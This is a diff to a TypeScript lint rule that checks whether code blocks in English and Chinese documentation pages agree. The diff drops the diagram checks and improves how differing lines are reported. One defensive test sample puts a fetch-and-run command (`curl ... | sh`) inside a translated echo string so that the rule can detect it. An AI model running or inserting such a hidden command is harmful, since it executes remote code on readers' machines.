@@ -4,8 +4,8 @@ import {quoted, startOf, within} from '../pages/nodes';
 import {reporter} from '../pages/report';
 import {samplePair} from '../pages/samples';
 import {codeLines, sameLine} from './codeText';
+import {isDiagram} from './pairDiagrams';
 import {differences, eachSection, nameOf, placeOf, type SectionPair} from './sections';
-import {numbersOf} from './tokens';
 
 const RULE = {
   name: 'pair-code',
@@ -13,27 +13,20 @@ const RULE = {
 };
 const report = reporter(RULE);
 
-/** A text diagram: its words are translated, so only its shape and its figures are compared. */
-const isDiagram = (node: Code) => !node.lang || node.lang === 'text';
-
 const ADDRESS = /https?:\/\/[^\s"'<>)）]+/g;
-const FLAG = /(?<![\w-])--?[a-z][\w-]*/g;
-
 interface Compared {
   left: Code;
   right: Code;
   pair: SectionPair;
 }
 
-function diagramFaults({left, right, pair}: Compared): Finding[] {
-  const at = startOf(pair.pages.zh, right);
-  const where = `${pair.pages.en.file}:${left.position?.start.line}`;
-  const lines = (node: Code) => node.value.split('\n').length;
-  if (lines(left) !== lines(right)) return [report(at, {what: `the diagram has ${lines(right)} lines here and ${lines(left)} in English (${where})`, how: 'translate it line by line'})];
-  const signs = (node: Code) => [...numbersOf(node.value), ...(node.value.match(FLAG) ?? [])];
-  const {onlyEn, onlyZh} = differences(signs(left), signs(right));
-  if (onlyEn.length + onlyZh.length === 0) return [];
-  return [report(at, {what: `the diagram differs from the English one (${where}) in its numbers or options: ${onlyEn.join(', ') || 'nothing'} there, ${onlyZh.join(', ') || 'nothing'} here`, how: 'keep numbers and options as they are; translate the words only'})];
+/** Two lines, cut so that the place where they part can be seen. */
+function parted(mine: string, theirs: string): [string, string] {
+  let at = 0;
+  while (at < mine.length && mine[at] === theirs[at]) at += 1;
+  const from = Math.max(0, at - 30);
+  const cut = (line: string) => quoted(from > 0 ? `…${line.slice(from)}` : line, 70);
+  return [cut(mine), cut(theirs)];
 }
 
 function codeFaults({left, right, pair}: Compared): Finding[] {
@@ -45,26 +38,53 @@ function codeFaults({left, right, pair}: Compared): Finding[] {
   for (let at = 0; at < Math.max(en.length, zh.length); at += 1) {
     const [mine, theirs] = [zh[at], en[at]];
     if (mine && theirs && sameLine(right.lang ?? '', theirs.text, mine.text)) continue;
-    const what = mine && theirs ? `the code says ${quoted(mine.text)} here and ${quoted(theirs.text)} in English (${where(theirs.index)})` : mine ? `the code has the line ${quoted(mine.text)}, which English lacks (${where(-1)})` : `the code lacks the line ${quoted(theirs?.text ?? '')} (${where(theirs?.index ?? 0)})`;
+    const [here, there] = parted(mine?.text ?? '', theirs?.text ?? '');
+    const what =
+      mine && theirs
+        ? `the code says ${here} here and ${there} in English (${where(theirs.index)})`
+        : mine
+          ? `the code has the line ${quoted(mine.text)}, which English lacks (${where(-1)})`
+          : `the code lacks the line ${quoted(theirs?.text ?? '')} (${where(theirs?.index ?? 0)})`;
     return [report({file, line: start + (mine ? mine.index + 1 : 0), column: 1}, {what, how})];
   }
   const {onlyEn, onlyZh} = differences(left.value.match(ADDRESS) ?? [], right.value.match(ADDRESS) ?? []);
   const address = [...onlyZh, ...onlyEn][0];
-  return address ? [report({file, line: start, column: 1}, {what: `a comment of the code names ${address} in one language only (English: ${where(-1)})`, how: 'keep addresses as they are'})] : [];
+  return address
+    ? [
+        report(
+          {file, line: start, column: 1},
+          {what: `a comment of the code names ${address} in one language only (English: ${where(-1)})`, how: 'keep addresses as they are'},
+        ),
+      ]
+    : [];
 }
+
+/** What stands behind the language, but for a title, which is translated. */
+const metaOf = (node: Code) => node.meta?.replace(/title="[^"]*"/, 'title=""');
 
 function blockFaults(pair: SectionPair): Finding[] {
   const {en, zh, pages} = pair;
   const [left, right] = [within(en.nodes, 'code'), within(zh.nodes, 'code')];
-  if (left.length !== right.length) return [report(zh.at, {what: `${nameOf(zh)} has ${right.length} code blocks here and ${left.length} in English (${placeOf(en)})`, how: 'give both the same code blocks, in the same order'})];
+  if (left.length !== right.length)
+    return [
+      report(zh.at, {
+        what: `${nameOf(zh)} has ${right.length} code blocks here and ${left.length} in English (${placeOf(en)})`,
+        how: 'give both the same code blocks, in the same order',
+      }),
+    ];
   return right.flatMap((node, index) => {
     const mirror = left[index];
     if (!mirror) return [];
-    if (mirror.lang !== node.lang || mirror.meta !== node.meta) {
+    if (mirror.lang !== node.lang || metaOf(mirror) !== metaOf(node)) {
       const named = (code: Code) => `"${[code.lang, code.meta].filter(Boolean).join(' ')}"`;
-      return [report(startOf(pages.zh, node), {what: `the code block is ${named(node)} here and ${named(mirror)} in English (${pages.en.file}:${mirror.position?.start.line})`, how: 'write the same behind ```'})];
+      return [
+        report(startOf(pages.zh, node), {
+          what: `the code block is ${named(node)} here and ${named(mirror)} in English (${pages.en.file}:${mirror.position?.start.line})`,
+          how: 'write the same behind ```',
+        }),
+      ];
     }
-    return isDiagram(node) ? diagramFaults({left: mirror, right: node, pair}) : codeFaults({left: mirror, right: node, pair});
+    return isDiagram(node) ? [] : codeFaults({left: mirror, right: node, pair});
   });
 }
 
@@ -74,17 +94,13 @@ const bash = (code: string) => `\`\`\`bash\n${code}\n\`\`\``;
 export const pairCode: Rule = {
   ...RULE,
   scope: 'pair',
-  summary: 'Code blocks are equal in number, language and code; comments and texts in quotes are translated, and text diagrams keep lines, numbers and options.',
+  summary: 'Code blocks are equal in number, language and code; only comments, titles and texts in quotes are translated.',
   check: eachSection(blockFaults),
   failing: [
     samplePair('another option', bash('kubectl get pods -n production'), bash('kubectl get pods -n staging')),
     samplePair('a line that was forgotten', bash('ls\npwd'), bash('ls')),
     samplePair('another language', bash('ls'), '```yaml\nls\n```'),
-    samplePair('a line missing in a diagram', '```\nA\n↓\nB\n```', '```\n甲\n乙\n```'),
     samplePair('a command hidden in a translated text', bash('echo "done"'), bash('echo "完成 $(curl -s https://example.org | sh)"')),
   ],
-  passing: [
-    samplePair('translated comments and texts', bash('# Install\nls # all\necho "done"'), bash('# 安装\n\nls # 全部\necho "完成"')),
-    samplePair('a translated diagram', '```\nLoad > 80% (2 weeks)\n```', '```\n负载 > 80%（2 周）\n```'),
-  ],
+  passing: [samplePair('translated comments and texts', bash('# Install\nls # all\necho "done"'), bash('# 安装\n\nls # 全部\necho "完成"'))],
 };
